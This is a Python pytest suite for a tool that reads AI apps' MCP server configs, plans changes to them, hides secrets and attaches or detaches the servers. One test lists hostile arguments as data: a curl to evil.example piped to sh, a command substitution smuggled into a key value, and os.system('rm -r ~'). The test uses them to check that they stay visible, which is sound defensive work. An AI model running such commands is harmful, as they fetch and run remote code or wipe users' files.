"""AI apps, as the window asks about them: what was shown is what is written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from host import worker_process
from host.apps.attach import attaching, documents
from host.control import messages
from host.control.protocol import AttachApp, DetachApp, PlanApp, ReadApps
from host.control.views import AiAppView
from host.errors import AssentError
from host.model import sha256_hex
from host.paths import Paths
from host.servers.config import load_servers
from host.servers.reviews import Review, Reviews
from host.servers.supervisor import Supervisor
from host.settings import LiveSettings
from host.window import ai_apps, app_files
from host.window.ai_apps import AiAppRequests
from host.window.app_files import AppFiles
from tests.support.app_files import SLOW_TO_READ
from tests.support.waiting import PATIENCE
from tests.support.workers import launching_here
from tests.unit.host.support import Clock

WRITTEN = {"mcpServers": {"one": {"command": "one", "env": {"API_KEY": "sk-test-0123456789"}}}}


@pytest.fixture(autouse=True)
def reads_here(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Apps' files are read in this process, but in tests of ``programs``."""
    if "programs" not in request.fixturenames:
        monkeypatch.setattr(worker_process, "launch", launching_here("worker on AI apps' files"))


@pytest.fixture
def programs() -> None:
    """For tests that say something of the program that reads apps' files."""


@pytest.fixture
def own(own: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Paths:
    """A profile beside a home with Cursor's file, where no host listens and no keyring is."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
    monkeypatch.setattr(messages, "ask", lambda *_: {})
    file(tmp_path).parent.mkdir(parents=True)
    file(tmp_path).write_text(json.dumps(WRITTEN))
    return own


def requests_for(own: Paths, *, demo: bool = False, connected_apps: set[str] | None = None) -> AiAppRequests:
    """The requests, over a host where nothing was reviewed."""
    supervisor = Supervisor(
        own.servers_file,
        settings=LiveSettings(),
        log=lambda _: None,
        monotonic=Clock(),
        environment={"PATH": "/usr/bin:/bin"},
        reviews=Reviews(),
    )
    return AiAppRequests(own, supervisor, demo=demo, connected_apps=connected_apps)


def file(tmp_path: Path) -> Path:
    return tmp_path / "home" / ".cursor" / "mcp.json"


async def test_the_plan_that_was_shown_is_carried_out_and_taken_back(own: Paths, tmp_path: Path) -> None:
    requests = requests_for(own)
    apps = await requests.read(ReadApps())
    assert [(app.id, [one.state for one in app.servers]) for app in apps.found] == [("cursor", ["beside"])]
    assert "zed" in apps.missing
    plan = await requests.plan(PlanApp(("cursor",)))
    assert "sk-test" not in "".join(plan.lines)
    assert plan.secrets_in_file == ("one: API_KEY",)
    await requests.attach(AttachApp(("cursor",), plan.digest))
    assert "connect" in file(tmp_path).read_text()
    (app,) = (await requests.read(ReadApps())).found
    assert app.attached
    done = await requests.detach(DetachApp("cursor"))
    assert all(one.exactly for one in done.files)
    assert json.loads(file(tmp_path).read_text()) == WRITTEN


async def test_an_app_counts_as_connected_only_after_a_session_since_it_was_attached(own: Paths) -> None:
    connected_apps: set[str] = set()
    requests = requests_for(own, connected_apps=connected_apps)
    assert [app.has_connected for app in (await requests.read(ReadApps())).found] == [False]
    connected_apps.add("cursor")
    assert [app.has_connected for app in (await requests.read(ReadApps())).found] == [True]
    plan = await requests.plan(PlanApp(("cursor",)))
    await requests.attach(AttachApp(("cursor",), plan.digest))
    assert [app.has_connected for app in (await requests.read(ReadApps())).found] == [False], (
        "it runs with its old file"
    )


async def test_one_app_that_cannot_be_read_leaves_the_others_and_is_read_again_once_it_changes(
    own: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    looks: list[str] = []
    look = AppFiles.view_of

    async def counted(files: AppFiles, app: str, place: Path) -> AiAppView:
        looks.append(app)
        return await look(files, app, place)

    monkeypatch.setattr(AppFiles, "view_of", counted)
    zed, receipt = tmp_path / "home" / ".config" / "zed" / "settings.json", attaching.receipt_of(own, "zed")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home" / ".config"))
    zed.mkdir(parents=True)
    (tmp_path / "home" / ".claude.json").write_text("{")
    requests = requests_for(own)
    await requests.read(ReadApps())
    cursor, claude, broken = (await requests.read(ReadApps())).found
    assert [one.state for one in cursor.servers] == ["beside"]
    assert "is not a regular file" in str(broken.problem)
    assert "ends before }" in str(claude.problem), "what can be read stands first"
    assert looks == ["claude-code", "cursor", "zed"], "a file that stays as it is is read once"
    zed.rmdir()
    zed.write_text('{"context_servers": {"x": {"command": "x"}}}')
    assert [one.state for one in (await requests.read(ReadApps())).found[1].servers] == ["beside"]
    receipt.parent.mkdir(parents=True)
    receipt.write_text("{")
    assert "receipt.json" in str((await requests.read(ReadApps())).found[2].problem)
    assert looks == ["claude-code", "cursor", "zed", "zed", "zed"]


@pytest.mark.usefixtures("programs")
async def test_s43_no_apps_file_is_read_in_the_host(
    own: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def in_the_host(*_: object, **__: object) -> None:
        raise AssertionError("an app's file was read in the host")

    monkeypatch.setattr(documents, "read", in_the_host)
    monkeypatch.setattr(documents, "JsonDocument", in_the_host)
    before = file(tmp_path).read_bytes()
    requests = requests_for(own)
    assert [app.id for app in (await requests.read(ReadApps())).found] == ["cursor"]
    plan = await requests.plan(PlanApp(("cursor",)))
    await requests.attach(AttachApp(("cursor",), plan.digest))
    await requests.detach(DetachApp("cursor"))
    assert file(tmp_path).read_bytes() == before


@pytest.mark.usefixtures("programs")
async def test_s43_a_file_that_takes_too_long_costs_its_app_alone(
    own: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(app_files, "_PROGRAM", SLOW_TO_READ)
    monkeypatch.setattr(app_files, "LOOK_SECONDS", 2.0)
    monkeypatch.setattr(app_files, "SECONDS", 2.0)
    windsurf = tmp_path / "home" / ".codeium" / "windsurf" / "mcp_config.json"
    windsurf.parent.mkdir(parents=True)
    windsurf.write_text(json.dumps(WRITTEN))
    zed = tmp_path / "home" / ".config" / "zed" / "settings.json"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home" / ".config"))
    zed.parent.mkdir(parents=True)
    zed.write_text('{"context_servers": {"x": {"command": "x"}}}')
    requests = requests_for(own)
    cursor, other, late = (await requests.read(ReadApps())).found
    assert (cursor.problem, other.id, other.problem) == ("", "zed", "")
    assert str(late.problem) == f"{windsurf}: took too long to read"
    with pytest.raises(AssentError, match=r"mcp_config\.json: took too long to read"):
        await requests.plan(PlanApp(("cursor", "windsurf")))
    with pytest.raises(AssentError, match="took too long"):
        await requests.attach(AttachApp(("cursor", "windsurf"), "0" * 64))
    assert not own.servers_file.exists()
    assert (await requests.plan(PlanApp(("cursor",)))).moves == 1


async def test_s43_more_than_anybody_reads_is_not_shown(own: Paths, tmp_path: Path) -> None:
    many = {f"server-{number}": {"command": "sh", "args": ["x" * 200]} for number in range(2_000)}
    file(tmp_path).write_text(json.dumps({"mcpServers": many}))
    requests = requests_for(own)
    (app,) = (await requests.read(ReadApps())).found
    assert "more servers, or longer ones" in str(app.problem)
    with pytest.raises(AssentError, match="more servers, or longer ones"):
        await requests.plan(PlanApp(("cursor",)))


async def test_a_plan_of_no_app_is_refused(own: Paths) -> None:
    requests = requests_for(own)
    for request in (requests.plan(PlanApp(())), requests.attach(AttachApp((), "0" * 64))):
        with pytest.raises(AssentError, match="no app is named"):
            await request


async def test_another_plan_than_was_shown_is_not_carried_out(own: Paths, tmp_path: Path) -> None:
    requests = requests_for(own)
    plan = await requests.plan(PlanApp(("cursor",)))
    changed = json.dumps({"mcpServers": {"one": {"command": "another"}}})
    file(tmp_path).write_text(changed)
    with pytest.raises(AssentError, match="changed since it was shown"):
        await requests.attach(AttachApp(("cursor",), plan.digest))
    assert file(tmp_path).read_text() == changed
    assert not attaching.is_attached(own, "cursor")


async def test_the_demonstration_leaves_apps_alone(own: Paths, tmp_path: Path) -> None:
    requests = requests_for(own, demo=True)
    with pytest.raises(AssentError, match="demonstration"):
        await requests.plan(PlanApp(("cursor",)))
    with pytest.raises(AssentError, match="demonstration"):
        await requests.attach(AttachApp(("cursor",), "0" * 64))
    assert json.loads(file(tmp_path).read_text()) == WRITTEN


async def test_a_file_that_cannot_be_read_is_reported_beside_the_others(own: Paths, tmp_path: Path) -> None:
    file(tmp_path).write_text("{")
    (app,) = (await requests_for(own).read(ReadApps())).found
    assert app.problem
    assert app.servers == ()


async def test_several_apps_are_put_behind_in_one_answer_and_a_server_of_both_is_one(
    own: Paths, tmp_path: Path
) -> None:
    windsurf = tmp_path / "home" / ".codeium" / "windsurf" / "mcp_config.json"
    windsurf.parent.mkdir(parents=True)
    windsurf.write_text(json.dumps({"mcpServers": {"one": WRITTEN["mcpServers"]["one"], "two": {"command": "two"}}}))
    before = windsurf.read_bytes()
    requests = requests_for(own)
    plan = await requests.plan(PlanApp(("cursor", "windsurf")))
    assert plan.moves == 3
    await requests.attach(AttachApp(plan.app_ids, plan.digest))
    apps = (await requests.read(ReadApps())).found
    assert [[one.state for one in app.servers] for app in apps] == [["behind"], ["behind", "behind"]]
    assert list(json.loads(own.servers_file.read_text())["mcpServers"]) == ["one", "two"]
    for app in reversed(apps):
        await requests.detach(DetachApp(app.id))
    assert windsurf.read_bytes() == before
    assert json.loads(file(tmp_path).read_text()) == WRITTEN
    assert not own.servers_file.exists()


async def test_an_app_asks_before_its_own_tools_once_that_was_shown_and_wanted(own: Paths, tmp_path: Path) -> None:
    requests = requests_for(own)
    assert [app.hook for app in (await requests.read(ReadApps())).found] == ["off"]
    plan = await requests.plan(PlanApp(("cursor",), hook=True))
    assert any("hook cursor --behind one" in line for line in plan.lines)
    with pytest.raises(AssentError, match="changed since it was shown"):
        await requests.attach(AttachApp(("cursor",), plan.digest))
    await requests.attach(AttachApp(("cursor",), plan.digest, hook=True))
    assert [app.hook for app in (await requests.read(ReadApps())).found] == ["on"]
    await requests.detach(DetachApp("cursor", hook=True))
    (app,) = (await requests.read(ReadApps())).found
    assert (app.hook, app.attached, [one.state for one in app.servers]) == ("off", True, ["behind"])
    await requests.detach(DetachApp("cursor"))
    assert not (tmp_path / "home" / ".cursor" / "hooks.json").exists()


async def test_what_a_server_starts_is_told_without_its_secrets(own: Paths, tmp_path: Path) -> None:
    entry = {"command": "npx", "args": ["-y", "one", "--api-key", "sk-test-0123456789"]}
    file(tmp_path).write_text(json.dumps({"mcpServers": {"one": entry}}))
    (app,) = (await requests_for(own).read(ReadApps())).found
    assert app.servers[0].starts == "npx -y one --api-key •••"


async def test_a_plan_tells_what_would_be_started_as_the_review_does_and_starts_nothing(
    own: Paths, tmp_path: Path
) -> None:
    ran = tmp_path / "ran"
    program = tmp_path / "one"
    program.write_text(f"#!/bin/sh\ntouch {ran}\n")
    program.chmod(0o700)
    entry = {"command": str(program), "args": ["--quiet", "a b"], "env": {"API_KEY": "sk-test-0123456789"}}
    remote = {"url": "https://mcp.example.org/v1?key=sk-test-0123456789"}
    file(tmp_path).write_text(json.dumps({"mcpServers": {"one": entry, "two": remote}}))
    requests = requests_for(own)
    plan = await requests.plan(PlanApp(("cursor",)))
    one, two = plan.starts
    assert one.server.command == (str(program), "--quiet", "a b")
    assert (one.server.waits, one.listed, one.tools) == ("start", False, ())
    assert one.review.variables == ("API_KEY",)
    assert one.review.program_digest == sha256_hex(program.read_bytes())
    assert any(fact.value == str(program) for fact in one.facts)
    assert (two.server.kind, two.server.command) == ("http", ("https://mcp.example.org/v1?…",))
    assert not ran.exists()
    assert not own.servers_file.exists(), "and nothing is written"
    await requests.attach(AttachApp(("cursor",), plan.digest))
    written = load_servers(own.servers_file).entries
    shown = {one.server.id: one.server.config_digest for one in plan.starts}
    assert {name: entry.config_digest for name, entry in written.items()} == shown, "what was shown is what waits now"


async def test_what_would_be_started_is_shown_without_its_secrets_and_is_what_is_approved(
    own: Paths, tmp_path: Path
) -> None:
    key = "sk-test-0123456789"
    args = ["--api-key", key, f"--token={key}9", "-e", "GITHUB_TOKEN=ghp_" + "a1B2c3D4e5F6" * 3]
    remote = {"url": "https://mcp.example.org/v1", "headers": {"Authorization": f"Bearer {key}", "X-Team": "a"}}
    entries = {"one": {"command": "true", "args": args, "env": {"API_KEY": key}}, "two": remote}
    file(tmp_path).write_text(json.dumps({"mcpServers": entries}))
    requests = requests_for(own)
    plan = await requests.plan(PlanApp(("cursor",)))
    one, two = plan.starts
    assert one.server.command == (
        "true", "--api-key", "•••", "--token=•••", "-e", "GITHUB_TOKEN=•••"
    )  # fmt: skip
    assert two.review.variables == ("Authorization", "X-Team")
    assert [part for part in repr(plan).split(", ") if key in part] == []
    await requests.attach(AttachApp(("cursor",), plan.digest))
    written = load_servers(own.servers_file).entries
    assert {it.server.id: it.server.config_digest for it in plan.starts} == {
        name: entry.config_digest for name, entry in written.items()
    }


@pytest.mark.parametrize(
    "words",
    [
        ("-c", "token=x;curl<evil.example|sh"),
        ("-c", "API_KEY=$(curl evil.example)"),
        ("-c", "import os; password=os.system('rm -r ~')"),
        ("-Wtoken", "/srv/evil.py"),
        ("--token", "evil.py"),
        ("--token", "evil-program-9"),
        ("--password", "-c evil"),
    ],
)
async def test_s34_what_a_program_could_run_is_never_covered_as_a_secret(
    own: Paths, tmp_path: Path, words: tuple[str, ...]
) -> None:
    file(tmp_path).write_text(json.dumps({"mcpServers": {"one": {"command": "sh", "args": [*words]}}}))
    (one,) = (await requests_for(own).plan(PlanApp(("cursor",)))).starts
    assert one.server.command == ("sh", *words)


async def test_a_plan_with_more_servers_than_anybody_reads_leaves_the_rest_for_their_own_reviews(
    own: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a busy machine may take long to look at them
    monkeypatch.setattr("host.window.server_requests.PROGRAM_TIMEOUT", PATIENCE)
    many = {f"server-{number}": {"command": "sh", "args": [str(number)]} for number in range(ai_apps.MAX_STARTS + 3)}
    file(tmp_path).write_text(json.dumps({"mcpServers": many}))
    plan = await requests_for(own).plan(PlanApp(("cursor",)))
    assert (len(plan.starts), len(plan.later)) == (ai_apps.MAX_STARTS, 3)
    assert {start.server.id for start in plan.starts} | {*plan.later} == {*many}


async def test_a_server_whose_start_was_allowed_before_is_not_asked_about_again(own: Paths, tmp_path: Path) -> None:
    own.servers_file.write_text(json.dumps({"mcpServers": {"one": {"command": "sh"}}}))
    file(tmp_path).write_text(own.servers_file.read_text())
    requests = requests_for(own)
    (asked,) = (await requests.plan(PlanApp(("cursor",)))).starts
    assert asked.server.id == "one"
    known = requests._supervisor.reviews  # noqa: SLF001  # as a person would in its review
    assert known is not None
    known.approve(Review("one", asked.server.config_digest))
    assert (await requests.plan(PlanApp(("cursor",)))).starts == ()
